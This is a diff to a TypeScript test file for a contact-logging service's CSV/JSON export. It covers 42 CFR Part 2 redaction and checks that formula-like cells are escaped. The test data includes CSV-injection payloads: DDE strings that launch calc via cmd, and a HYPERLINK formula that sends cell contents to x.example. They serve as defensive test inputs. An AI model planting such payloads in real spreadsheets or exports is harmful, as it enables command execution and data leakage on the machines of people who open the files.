@@ -11,10 +11,11 @@ import { promisify } from 'node:util';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { parseProgramFile, type ProgramConfig } from '../../src/config.js';
 import { openDatabase } from '../../src/db/client.js';
+import { PART2_NOTICE } from '../../src/domain/contact-csv.js';
 import { parseCsv } from '../../src/domain/csv.js';
 import { logContact, notesContext } from '../../src/services/contacts.js';
 import { createKeyring } from '../../src/services/crypto.js';
-import { contactExportCsv, exportContacts } from '../../src/services/csv-export.js';
+import { contactExportCsv, contactExportJson, exportContacts } from '../../src/services/csv-export.js';
 import { importContacts, type TImportResult } from '../../src/services/csv-import.js';
 import { syncPrograms, type Directory } from '../../src/services/directory.js';
 import { openMigratedTestDatabase } from '../support/postgres.js';
@@ -43,11 +44,33 @@ programs:
     startDate: 2024-01-01
     clientCodePrefix: DOV
     slack: { teamId: T0PAC }
+  - id: sheets
+    name: Keys a spreadsheet would read as formulas
+    timezone: America/New_York
+    startDate: 2024-01-01
+    clientCodePrefix: SHT
+    slack: { teamId: T0SHT }
+    roster:
+      - { slack: U0SHT1, roles: [clinician] }
+    categories:
+      sources: [-walk_in, other]
+      services: [+extra, crisis_services, { key: sud_counselling, label: Substance-use counselling, part2: true }]
+  - id: sheets_copy
+    name: The same keys, empty
+    timezone: America/New_York
+    startDate: 2024-01-01
+    clientCodePrefix: SHT
+    slack: { teamId: T0SHTC }
+    categories:
+      sources: [-walk_in, other]
+      services: [+extra, crisis_services, { key: sud_counselling, label: Substance-use counselling, part2: true }]
 `;
 const programs = parseProgramFile(PROGRAMS_YAML, 'test.yml');
 const wilmington = programs.find((p) => p.id === 'wilmington')!;
 const copy = programs.find((p) => p.id === 'copy')!;
 const pacific = programs.find((p) => p.id === 'pacific')!;
+const sheets = programs.find((p) => p.id === 'sheets')!;
+const sheetsCopy = programs.find((p) => p.id === 'sheets_copy')!;
 const KEY = randomBytes(32);
 const keyring = createKeyring(KEY);
 const NOW = new Date('2025-01-15T12:00:00Z');
@@ -339,6 +362,135 @@ describe('export', () => {
       ['contact.export', 'wilmington', null],
       ['contact.export_notes', 'wilmington', null],
     ]);
+  });
+});
+
+describe('42 CFR Part 2 in the export', () => {
+  const PART2_ROWS = [
+    HEADER,
+    'PIC-0001,2024-07-01,call_for_service,,addiction_treatment;social_services,resolved_on_scene,female,25-59,,',
+    'PIC-0002,2024-07-02,call_for_service,,addiction_treatment,referral_only,male,18-24,,',
+    'PIC-0003,2024-07-03,call_for_service,,,referral_only,male,18-24,,',
+  ].join('\n');
+  const range = { from: '2024-07-01', to: '2024-07-31', includeNotes: false, actor: ACTOR };
+
+  it('leaves Part 2 referrals out as if never chosen, unless asked; then the 2.32 notice heads the file', async () => {
+    ok(await run(wilmington, PART2_ROWS));
+    const plain = await exportContacts(deps(), { program: wilmington, ...range });
+    const text = contactExportCsv(plain);
+    expect(text).not.toMatch(/addiction|part 2/i);
+    expect(text.split('\r\n')[0]).toMatch(/^contact_number,/);
+    // The contact with only a Part 2 referral looks like the one with none: nothing to infer from.
+    const referrals = plain.columns.indexOf('referrals');
+    expect(plain.rows.map((r) => r[referrals])).toEqual(['social_services', '', '']);
+    expect(plain.notice).toBeNull();
+
+    const part2 = await exportContacts(deps(), { program: wilmington, ...range, includePart2: true });
+    const withPart2 = contactExportCsv(part2);
+    expect(part2.rows.map((r) => r[referrals])).toEqual(['addiction_treatment;social_services', 'addiction_treatment', '']);
+    expect(withPart2.split('\r\n')[0]).toBe('# NOTICE: 42 CFR part 2 prohibits unauthorized use or disclosure of these records.');
+    expect(JSON.parse(contactExportJson(part2))).toMatchObject({ notice: PART2_NOTICE, contacts: [{ referrals: 'addiction_treatment;social_services' }, {}, {}] });
+    expect(Array.isArray(JSON.parse(contactExportJson(plain)))).toBe(true);
+
+    const audit = await env.db.prisma.auditEvent.findMany({ where: { entityType: 'program' }, orderBy: { id: 'asc' } });
+    expect(audit.map((a) => [a.action, a.count, a.details])).toEqual([
+      ['contact.export', 3, { osUser: 'operator', host: 'test-host', actor: null, notes: false, part2: false }],
+      ['contact.export_part2', 3, { osUser: 'operator', host: 'test-host', actor: null, notes: false, part2: true }],
+    ]);
+  });
+
+  it('imports back with the notice line skipped: the same contacts in an empty program, nothing new in its own', async () => {
+    ok(await run(wilmington, PART2_ROWS));
+    const all = { ...range, includePart2: true, includeNotes: true };
+    const original = contactExportCsv(await exportContacts(deps(), { program: wilmington, ...all }));
+    expect(original.startsWith('# NOTICE:')).toBe(true);
+    expect(ok(await run(copy, original))).toMatchObject({ contactsCreated: 3, clientsCreated: 3 });
+    expect(contactExportCsv(await exportContacts(deps(), { program: copy, ...all }))).toBe(original);
+    expect(ok(await run(wilmington, original))).toMatchObject({ contactsCreated: 0, contactsAlreadyImported: 3 });
+    // A spreadsheet that saved the notice row padded with empty cells is read the same way.
+    const padded = original.replace(/^(.*)\r\n/, (_, line: string) => `${line}${','.repeat(12)}\r\n`);
+    expect(ok(await run(wilmington, padded))).toMatchObject({ contactsCreated: 0, contactsAlreadyImported: 3 });
+  });
+});
+
+describe('formula-like cells in the export', () => {
+  // Every OWASP trigger, a note that truly begins with a quote, and quotes and commas inside.
+  const NOTES = [
+    '=HYPERLINK("https://x.example/?"&B2,"click")',
+    '+1+1',
+    '-2+3+cmd|\' /C calc\'!A0',
+    '@SUM(1+9)*cmd|\' /C calc\'!A0',
+    '\t=1+1',
+    '\r=1+1, then left',
+    "'=1+1 (typed with the quote)",
+    "''-2",
+    "'twas a quiet night",
+    'plain note',
+  ];
+
+  it('come out as text and import back as the original text: notes, incident refs and keys', async () => {
+    const author = directory.member('sheets', 'slack', 'U0SHT1')!;
+    for (const [i, notes] of NOTES.entries()) {
+      await logContact(deps(), {
+        program: sheets,
+        author,
+        idempotencyKey: `view-${i}`,
+        input: {
+          client: { kind: 'new', sex: 'female', ageBand: '25-59' },
+          occurredAt: new Date(Date.UTC(2024, 6, 1 + i, 15)),
+          source: i % 2 ? '-walk_in' : 'other',
+          services: i % 2 ? ['+extra', 'crisis_services'] : ['crisis_services', '+extra'],
+          referrals: [],
+          disposition: 'resolved_on_scene',
+          incidentRef: `CAD-2024/${i}.#${i}`,
+          minutesOnScene: i,
+          followUpDate: null,
+          followUpAssignee: null,
+          notes,
+        },
+      });
+    }
+    const all = { from: '2024-01-01', to: '2024-12-31', includeNotes: true, actor: ACTOR };
+    const original = contactExportCsv(await exportContacts(deps(), { program: sheets, ...all }));
+    expect(original).toContain(`"'=HYPERLINK(""https://x.example/?""&B2,""click"")"`);
+    expect(original).toContain(`"'''-2"`);
+    expect(original).toContain(`,"'-walk_in",`);
+    const parsed = parseCsv(original);
+    if (!parsed.ok) throw new Error('export is not CSV');
+    const live = parsed.records.flatMap((r) => r.fields).filter((f) => /^[=+\-@\t\r]/.test(f));
+    expect(live).toEqual([]);
+
+    expect(ok(await run(sheetsCopy, original))).toMatchObject({ contactsCreated: NOTES.length });
+    expect(contactExportCsv(await exportContacts(deps(), { program: sheetsCopy, ...all }))).toBe(original);
+    const stored = await env.db.prisma.contact.findMany({ where: { programId: 'sheets_copy' }, orderBy: { number: 'asc' } });
+    expect(stored.map((c) => keyring.decrypt(c.notesCiphertext!, notesContext('sheets_copy')))).toEqual(NOTES);
+    expect(stored.map((c) => [c.source, c.services, c.incidentRef])).toEqual(NOTES.map((_, i) => [i % 2 ? '-walk_in' : 'other', i % 2 ? ['+extra', 'crisis_services'] : ['crisis_services', '+extra'], `CAD-2024/${i}.#${i}`]));
+  });
+
+  it('drop a program’s own Part 2 services too, unless asked', async () => {
+    const author = directory.member('sheets', 'slack', 'U0SHT1')!;
+    await logContact(deps(), {
+      program: sheets,
+      author,
+      idempotencyKey: 'view-sud',
+      input: {
+        client: { kind: 'new', sex: 'male', ageBand: '25-59' },
+        occurredAt: new Date('2024-07-01T15:00:00Z'),
+        source: 'other',
+        services: ['sud_counselling', '+extra'],
+        referrals: [],
+        disposition: 'resolved_on_scene',
+        incidentRef: null,
+        minutesOnScene: null,
+        followUpDate: null,
+        followUpAssignee: null,
+        notes: null,
+      },
+    });
+    const range = { from: '2024-07-01', to: '2024-07-31', includeNotes: false, actor: ACTOR };
+    const services = (e: { columns: string[]; rows: string[][] }) => e.rows.map((r) => r[e.columns.indexOf('services')]);
+    expect(services(await exportContacts(deps(), { program: sheets, ...range }))).toEqual(['+extra']);
+    expect(services(await exportContacts(deps(), { program: sheets, ...range, includePart2: true }))).toEqual(['sud_counselling;+extra']);
   });
 });
 
